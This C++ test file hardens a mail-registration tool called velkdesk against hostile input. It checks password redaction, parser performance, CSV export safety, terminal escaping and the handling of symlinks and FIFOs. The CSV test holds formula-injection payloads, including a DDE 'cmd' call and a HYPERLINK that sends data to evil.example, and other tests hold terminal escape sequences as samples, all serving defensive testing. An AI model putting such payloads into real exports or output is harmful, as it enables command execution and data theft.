// velkdesk against what a stranger can send or leave lying about: no password in any message or
// listing, readers that stay linear on hostile text, a spreadsheet export that runs nothing and
// never overwrites the database, terminal output without control sequences, and files that are
// no mail (links, FIFOs, the database itself) left alone.
#include <gtest/gtest.h>

#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <filesystem>
#include <sstream>

#include "desk/Export.h"
#include "desk/Printable.h"
#include "tests/support/desk_fixture.h"

namespace fs = std::filesystem;

namespace {

// The value of column `name` in the first data row of a '|'-separated export.
std::string CsvColumn(const std::string& csv, const std::string& name) {
    std::istringstream lines(csv);
    std::string header, row;
    std::getline(lines, header);
    std::getline(lines, row);
    auto split = [](const std::string& line) {
        std::vector<std::string> cells;
        std::stringstream in(line);
        for (std::string cell; std::getline(in, cell, '|');) cells.push_back(cell);
        return cells;
    };
    const std::vector<std::string> names = split(header), cells = split(row);
    const auto at = std::find(names.begin(), names.end(), name);
    return at == names.end() || static_cast<std::size_t>(at - names.begin()) >= cells.size()
               ? std::string()
               : cells[static_cast<std::size_t>(at - names.begin())];
}

}  // namespace

TEST_F(DeskTest, NoPasswordOfASheetOrMailReachesAReasonListingOrExport) {
    // A faxed page whose password the reader doubts for its I or l, and a mail with one: the
    // doubts are listed, the passwords are not.
    int status = -1;
    Write("mail.eml", SoundMail(6));
    RunCli("import " + (fs::path(SHEET_PAGES) / "sheet-fine-dotless.tif").string() + " " + (dir_ / "mail.eml").string(),
           &status);
    ASSERT_EQ(0, status);
    const std::string review = RunCli("list --review", &status);
    EXPECT_NE(std::string::npos, review.find("password_1: holds I or l")) << review;
    const std::string secret = CsvColumn(RunCli("export --with-passwords --separator '|'", &status), "password_1");
    ASSERT_EQ(9u, secret.size()) << secret;
    const std::string plain =
        review + RunCli("list", &status) + RunCli("show 1", &status) + RunCli("show 2", &status) + RunCli("export", &status);
    EXPECT_EQ(std::string::npos, plain.find(secret)) << plain;
    EXPECT_EQ(std::string::npos, plain.find(corpus::SampleRecord(6).password_1)) << plain;

    // The store's last guard: a reason an importer got wrong loses the secret before it is kept.
    desk::Registration r;
    r.record = corpus::SampleRecord(5);
    r.channel = "mail";
    r.dedupKey = "guard";
    r.reviewReasons = {"password_1: \"" + r.record.password_1 + "\" could as well be \"x\""};
    {
        desk::CDatabase db(db_.string());
        db.Add(r);
    }
    const std::vector<desk::StoredRegistration> rows = Rows();
    ASSERT_EQ(3u, rows.size());
    EXPECT_EQ("password_1: \"***\" could as well be \"x\"", rows[2].reviewReasons.at(0));
}

TEST_F(DeskTest, TheRecordReaderStaysLinearOnTextsOfUnclosedTags) {
    // Each tag without its end tag once looked ahead through every line after it: 64 KB took half
    // a minute. A MiB of them, with one name or many, and a record after them.
    std::string same = "<new>\n", many = "<new>\n";
    for (int i = 0; same.size() < (1u << 20); ++i) same += "<a>\n";
    for (int i = 0; many.size() < (100u << 10); ++i) many += "<a" + std::to_string(i) + ">\n";
    for (const std::string& text : {same, many}) {
        const std::vector<MailRecordRead> records = ReadMailRecords(text + "\n" + SampleText(7));
        ASSERT_FALSE(records.empty());
        EXPECT_LE(records[0].problems.size(), 41u);
        EXPECT_EQ("new: more problems than are listed", records[0].problems.back());
    }
    // A record wrapped over a few lines still reads; past the first MiB nothing is searched.
    std::string wrapped = SampleText(8);
    wrapped.replace(wrapped.find("<firm>") + 6, 0, std::string(300, 'x') + "\r\n" + std::string(300, 'y') + "\r\n");
    const std::vector<MailRecordRead> read = ReadMailRecords(wrapped);
    ASSERT_EQ(1u, read.size());
    EXPECT_EQ(0u, read[0].record.firm.find(std::string(300, 'x') + " " + std::string(300, 'y') + " "));
    EXPECT_TRUE(ReadMailRecords(std::string(kMailRecordMaxText, ' ') + SampleText(9)).empty());

    // A message of more records than anyone sends at once is refused whole, with its reason.
    std::string body;
    for (int n = 0; n <= static_cast<int>(desk::kMaxRecordsPerMessage); ++n) body += SampleText(n) + "\r\n";
    corpus::Mail flood;
    flood.parts = {corpus::TextPart(body, "utf-8", corpus::Transfer::Base64)};
    Write("flood.eml", corpus::BuildMessage(flood));
    std::string errors;
    const desk::ImportCounts counts = Import({dir_ / "flood.eml"}, &errors);
    EXPECT_EQ(0u, counts.added);
    EXPECT_EQ(1u, counts.rejected);
    EXPECT_NE(std::string::npos, errors.find("holds more than 10 records, refused whole")) << errors;
}

TEST_F(DeskTest, TheCsvExportRunsNoFormulaAndNeverOverwritesTheDatabase) {
    for (const char* formula : {"-2+3+cmd|' /C calc'!A0", "+1+HYPERLINK(\"http://evil.example/?\"&A1)", "=1+1",
                                "@SUM(A1)", "\tx", "\rx", "-", "+", "+49 221 x"}) {
        const std::string cell = desk::CsvCell(formula, ';');
        EXPECT_EQ('\'', cell[cell[0] == '"' ? 1 : 0]) << formula;
    }
    for (const char* phone : {"+49 (221) 123-45/67", "-5", "0221 123456", "1+1"}) EXPECT_EQ(phone, desk::CsvCell(phone, ';'));

    Write("mail.eml", SoundMail(1));
    Import({dir_ / "mail.eml"});
    int status = -1;
    for (const std::string& target : {db_.string(), db_.string() + "-wal", (dir_ / "." / "desk.db").string()}) {
        const std::string out = RunCli("export --csv " + target, &status);
        EXPECT_EQ(1, status) << out;
        EXPECT_NE(std::string::npos, out.find("is the database or one of its files")) << out;
    }
    EXPECT_EQ(1u, Rows().size());

    // Personal data for its owner only, and a link at the target replaced, not written through.
    const fs::path elsewhere = Write("elsewhere.txt", "untouched");
    fs::create_symlink(elsewhere, dir_ / "export.csv");
    RunCli("export --csv " + (dir_ / "export.csv").string(), &status);
    EXPECT_EQ(0, status);
    EXPECT_FALSE(fs::is_symlink(dir_ / "export.csv"));
    EXPECT_EQ(fs::perms::owner_read | fs::perms::owner_write, fs::status(dir_ / "export.csv").permissions());
    std::ifstream kept(elsewhere);
    EXPECT_EQ("untouched", std::string(std::istreambuf_iterator<char>(kept), {}));
}

TEST_F(DeskTest, NothingPrintedCarriesControlSequencesFromValuesOrFileNames) {
    EXPECT_EQ("a ]0;x  b", desk::Printable("a\x1b]0;x\x07\nb"));
    EXPECT_EQ("?2J ? ?evil ?", desk::Printable("\xC2\x9B" "2J \xC2\x9D \xE2\x80\xAE" "evil \x9B"));
    EXPECT_EQ("Gr\xC3\xB6\xC3\x9F" "e", desk::Printable("Gr\xC3\xB6\xC3\x9F" "e"));

    desk::Registration r;
    r.record = corpus::SampleRecord(2);
    r.record.vorname = "\xC2\x9B" "2J\xE2\x80\xAE";
    r.record.city = "K\xC3\xB6ln\x1b]0;pwn\x07";
    r.channel = "mail";
    r.sourceFile = "x\x1b[2Jy";
    r.dedupKey = "controls";
    r.reviewReasons = {"firm: \xC2\x9B" "31m"};
    desk::CDatabase db(db_.string());
    db.Add(r);
    std::ostringstream out;
    desk::ListRegistrations(db, false, out);
    desk::ShowRegistration(*db.Find(1), false, out);
    for (const char* control : {"\x1b", "\xC2\x9B", "\xE2\x80\xAE", "\x07"})
        EXPECT_EQ(std::string::npos, out.str().find(control)) << out.str();

    // A file whose name forges a second line of velkdesk's own gets one error line.
    const fs::path forged = Write("x\x1b]0;pwn\x07\nvelkdesk: forged.eml", "no mail");
    int status = -1;
    const std::string errors = RunCli("import '" + forged.string() + "'", &status);
    EXPECT_EQ(1, status);
    EXPECT_EQ(std::string::npos, errors.find("\nvelkdesk: forged.eml")) << errors;
    EXPECT_EQ(std::string::npos, errors.find('\x1b')) << errors;
}

TEST_F(DeskTest, TheImportReadsOnlyRegularFilesAndNeverTheDatabase) {
    // A link out of the folder, a FIFO and the database's own files beside the mail.
    Write("in/mail.eml", SoundMail(3));
    const fs::path outside = Write("outside/secret.eml", SoundMail(4));
    fs::create_symlink(outside, dir_ / "in" / "link.eml");
    ASSERT_EQ(0, mkfifo((dir_ / "in" / "pipe.eml").c_str(), 0600));
    ASSERT_EQ(0, mkfifo((dir_ / "named.eml").c_str(), 0600));
    db_ = dir_ / "in" / "desk.db";
    std::string errors;
    desk::ImportCounts counts = Import({dir_ / "in", dir_ / "named.eml"}, &errors);
    EXPECT_EQ(1u, counts.added);
    EXPECT_EQ(1u, counts.failedFiles) << errors;
    EXPECT_NE(std::string::npos, errors.find("named.eml: not a regular file")) << errors;
    EXPECT_EQ("reg3@example.de", Rows().at(0).sourceRef.substr(1, 15));

    counts = Import({dir_ / "in" / "link.eml", db_}, &errors);
    EXPECT_EQ(2u, counts.failedFiles);
    EXPECT_NE(std::string::npos, errors.find("a symbolic link, not followed")) << errors;
    EXPECT_NE(std::string::npos, errors.find("is the database itself")) << errors;
}

TEST_F(DeskTest, OnlyImportMakesADatabaseAndTwoMayMakeItAtOnce) {
    int status = -1;
    for (const char* command : {"list", "show 1", "export"}) {
        const std::string out = RunCli(command, &status);
        EXPECT_EQ(1, status) << command;
        EXPECT_NE(std::string::npos, out.find("no such database")) << out;
    }
    EXPECT_FALSE(fs::exists(db_));

    // Switching a new file to WAL once failed at once for the second of two openers.
    for (int run = 0; run < 12; ++run) {
        const fs::path fresh = dir_ / ("race" + std::to_string(run) + ".db");
        pid_t children[2];
        for (pid_t& child : children) {
            child = fork();
            if (child == 0) {
                try {
                    desk::CDatabase db(fresh.string());
                    _exit(0);
                } catch (const std::exception&) {
                    _exit(1);
                }
            }
        }
        for (pid_t child : children) {
            int childStatus = -1;
            waitpid(child, &childStatus, 0);
            EXPECT_TRUE(WIFEXITED(childStatus) && WEXITSTATUS(childStatus) == 0) << "run " << run;
        }
    }
}
